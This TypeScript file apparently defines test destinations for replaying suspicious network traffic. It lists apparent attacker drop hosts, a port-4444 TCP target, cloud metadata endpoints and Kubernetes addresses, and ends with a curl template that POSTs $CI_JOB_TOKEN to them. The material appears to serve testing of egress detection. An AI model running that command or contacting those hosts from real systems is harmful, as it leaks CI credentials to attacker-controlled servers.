/** Where the shapes of traffic go: names and addresses besides what every replay has. */
import { KUBERNETES, METADATA, type Place } from './places.ts';

export const drop = { name: 'scan.aquasecurtiy.org', address: '45.148.10.212' } as const;
export const axios = { name: 'sfrclak.com', address: '142.11.206.73' } as const;
export const host = { name: 'gitlab.com', address: '172.65.251.78' } as const;
export const bare = '203.0.113.66';
export const six = '2001:db8:1::66';
export const node = { address: '10.0.0.5', port: 10250 } as const;
export const resolvers = { udp: '9.9.9.9', tcp: '203.0.113.99' } as const;
export const metadata = [METADATA, '169.254.170.2', '169.254.170.23', '100.100.100.200'] as const;
export const metadata6 = 'fd00:ec2::254';
export const doh = { name: 'dns.google', address: '8.8.8.8' } as const;
export const github = '140.82.121.4';
export const GIT = 'GET github.com/victim/library.git/info/refs?service=git-upload-pack';
export const cluster = 'kubernetes.default.svc';

/** Where the shapes go, besides what every replay has. */
export const shapePlaces: readonly Place[] = [
  drop,
  { ...drop, port: 4444, kind: 'tcp' },
  { ...axios, port: 8000, kind: 'http' },
  host,
  { ...host, port: 22, kind: 'tcp' },
  { ...host, kind: 'udp' },
  { address: bare, port: 8080, kind: 'http' },
  { address: bare, port: 8443 },
  { address: resolvers.udp, port: 53, kind: 'udp' },
  { address: resolvers.tcp, port: 53, kind: 'tcp' },
  ...metadata.map((address) => ({ address, port: 80, kind: 'http' as const })),
  { address: metadata6, port: 80, kind: 'http' },
  doh,
  { name: cluster, address: KUBERNETES },
  node,
  { address: six },
  { address: github, port: 22, kind: 'tcp' },
];

/** How most of them are tried. */
export const curl = 'curl -sSk -m 20 -o /dev/null';
export const post = `${curl} -d "$CI_JOB_TOKEN"`;
